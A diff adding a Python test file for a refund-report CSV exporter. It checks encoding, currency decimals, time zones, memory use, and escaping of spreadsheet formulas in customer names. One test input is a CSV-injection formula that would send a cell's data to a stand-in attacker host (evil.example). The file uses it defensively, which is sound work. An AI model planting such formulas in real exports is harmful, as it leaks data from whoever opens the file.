@@ -1,0 +1,209 @@
+"""The report as CSV: read back by a strict reader, and nothing in it that a spreadsheet runs."""
+
+import csv
+import io
+import re
+import tracemalloc
+from collections.abc import Iterator
+from dataclasses import replace
+from decimal import Decimal
+from zoneinfo import ZoneInfo
+
+import pytest
+from babel.numbers import get_currency_precision
+from hypothesis import given
+from hypothesis import strategies as st
+
+from functions.export_report.write_export import file_chunks
+from shared import report_csv
+from shared.domain.money import SUPPORTED_CURRENCIES, minor_unit_digits
+from shared.domain.report import ReportRow
+
+CHICAGO = ZoneInfo("America/Chicago")
+
+ROW = ReportRow(
+    place="2026-11-01T06:30:00.123Z#7",
+    refund_id="re_1",
+    order_id="ord_1",
+    type="partial",
+    reason="wrong_print",
+    status="settled",
+    currency="usd",
+    refunded_amount=2550,
+    rev_share_adjustment_amount=383,
+    stripe_fee_retained_amount=82,
+    net_deduction_amount=-2167,
+    tax_refunded_amount=0,
+    processed_by="kim",
+    stripe_refund_id="re_stripe",
+    source="api",
+    settled_at="2026-11-01T06:30:00.123Z",
+    parent_name="Dana Parent",
+    subject_names=("Kai", "Bo"),
+    original_amount=10000,
+)
+
+
+def read(text: str) -> list[dict[str, str]]:
+    """Read a file as RFC 4180 has it; anything else is an error."""
+    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
+
+
+def written(*rows: ReportRow, zone: ZoneInfo = CHICAGO) -> list[dict[str, str]]:
+    text = report_csv.header() + report_csv.lines(rows, zone)
+    return read(text.removeprefix("\ufeff"))
+
+
+def test_a_file_begins_with_the_mark_that_excel_looks_for_and_ends_its_lines_with_crlf() -> None:
+    content = (report_csv.header() + report_csv.lines([ROW], CHICAGO)).encode()
+    assert content.startswith(b"\xef\xbb\xbfsettled_at,")
+    assert content.count(b"\r\n") == content.count(b"\n") == 2
+    assert content.endswith(b"\r\n")
+
+
+def test_a_row_is_in_major_units_and_in_the_studio_s_time() -> None:
+    (row,) = written(ROW)
+    assert row == {
+        "settled_at": "2026-11-01 01:30:00",
+        "requested_at": "",
+        "failed_at": "",
+        "order_id": "ord_1",
+        "parent_name": "Dana Parent",
+        "subject_names": "Kai; Bo",
+        "currency": "usd",
+        "original_amount": "100.00",
+        "refunded_amount": "25.50",
+        "rev_share_adjustment_amount": "3.83",
+        "stripe_fee_retained_amount": "0.82",
+        "net_deduction_amount": "-21.67",
+        "tax_refunded_amount": "0.00",
+        "processed_by": "kim",
+        "type": "partial",
+        "reason": "wrong_print",
+        "status": "settled",
+        "source": "api",
+        "refund_id": "re_1",
+        "stripe_refund_id": "re_stripe",
+    }
+
+
+def test_a_row_whose_order_was_erased_has_empty_cells() -> None:
+    (row,) = written(replace(ROW, parent_name=None, subject_names=(), original_amount=None))
+    assert (row["parent_name"], row["subject_names"], row["original_amount"]) == ("", "", "")
+
+
+def test_every_field_of_a_row_is_in_the_file_but_its_place() -> None:
+    assert set(report_csv.COLUMNS) | {"place"} == set(ReportRow.__dataclass_fields__)
+
+
+@pytest.mark.parametrize(
+    ("amount", "currency", "major"),
+    [
+        (1050, "usd", "10.50"),
+        (-5, "usd", "-0.05"),
+        (0, "usd", "0.00"),
+        (1050, "jpy", "1050"),
+        (99_999_999, "eur", "999999.99"),
+        (123_456, "rsd", "1234.56"),
+    ],
+)
+def test_amounts_have_the_currency_s_decimals(amount: int, currency: str, major: str) -> None:
+    assert report_csv.major_units(amount, currency) == major
+
+
+@given(st.integers(-(10**15), 10**15), st.sampled_from(sorted(SUPPORTED_CURRENCIES)))
+def test_an_amount_loses_nothing(amount: int, currency: str) -> None:
+    text = report_csv.major_units(amount, currency)
+    assert re.fullmatch(r"-?\d+(\.\d\d)?", text)
+    assert Decimal(text) * 10 ** minor_unit_digits(currency) == amount
+
+
+def test_stripe_s_decimals_are_not_the_ones_that_people_write() -> None:
+    # If this changes, Babel could be asked instead.
+    other = {
+        each
+        for each in SUPPORTED_CURRENCIES
+        if get_currency_precision(each.upper()) != minor_unit_digits(each)
+    }
+    assert other == {"all", "lak", "lbp", "mmk", "rsd", "sos", "std", "yer"}
+
+
+# What tempts a writer to quote wrongly, and a spreadsheet to calculate.
+TEMPTING = "=+-@'\";,|\t\r\n \\ab1é日＝＠"  # noqa: RUF001  # full-width on purpose
+NASTY = st.text(st.sampled_from(TEMPTING)) | st.text(st.characters(codec="utf-8"))
+FORMULA = "=+-@＝＋－＠\t\r\n"  # noqa: RUF001  # the full-width forms too
+
+
+@given(NASTY, NASTY)
+def test_any_name_comes_back_but_for_the_apostrophes_that_disarm_it(name: str, by: str) -> None:
+    (row,) = written(replace(ROW, parent_name=name, processed_by=by))
+    assert row["parent_name"].replace("'", "") == name.replace("'", "")
+    assert row["processed_by"].replace("'", "") == by.replace("'", "")
+    assert row["refund_id"] == "re_1"
+
+
+@given(NASTY)
+def test_no_cell_begins_a_formula_whatever_the_separator(name: str) -> None:
+    (row,) = written(replace(ROW, parent_name=name, subject_names=(name, name)))
+    for cell in (row["parent_name"], row["subject_names"]):
+        for piece in re.split(r"[;,|\t]", cell):
+            assert not piece.startswith(tuple(FORMULA)), cell
+            assert not piece.strip().startswith(tuple("=+-@")), cell
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example?"&A1)', '\'=HYPERLINK("http://evil.example?"&A1)'),
+        ("+1 Dana", "'+1 Dana"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t'=1"),
+        ("Dana;=1+1", "Dana;'=1+1"),
+        ("  =1+1", "'  =1+1"),
+        ("O'Hara-Smith", "O'Hara-Smith"),
+        ("a=b", "a=b"),
+    ],
+)
+def test_a_formula_in_a_name_is_disarmed_and_other_names_stay(name: str, cell: str) -> None:
+    assert report_csv.disarmed(name) == cell
+    assert written(replace(ROW, parent_name=name))[0]["parent_name"] == cell
+
+
+def test_amounts_are_not_disarmed() -> None:
+    assert written(ROW)[0]["net_deduction_amount"] == "-21.67"
+
+
+@pytest.mark.parametrize(
+    ("zone", "local"),
+    [
+        ("Europe/Oslo", "2026-11-01 07:30:00"),
+        ("Asia/Tokyo", "2026-11-01 15:30:00"),
+        ("UTC", "2026-11-01 06:30:00"),
+    ],
+)
+def test_times_are_the_studio_s(zone: str, local: str) -> None:
+    assert written(ROW, zone=ZoneInfo(zone))[0]["settled_at"] == local
+
+
+def many(count: int) -> Iterator[ReportRow]:
+    for number in range(count):
+        yield replace(ROW, refund_id=f"re_{number}")
+
+
+def peak_of(count: int) -> tuple[int, int]:
+    """Return the bytes of a file of so many rows, and the most memory that making it took."""
+    tracemalloc.start()
+    try:
+        size = sum(len(chunk) for chunk in file_chunks(many(count), CHICAGO))
+        return size, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def test_a_file_of_ten_times_the_rows_takes_no_more_memory() -> None:
+    peak_of(100)  # what is made once and kept
+    small, at_first = peak_of(2_000)
+    large, later = peak_of(20_000)
+    assert large > 9.5 * small
+    assert later < 1.1 * at_first
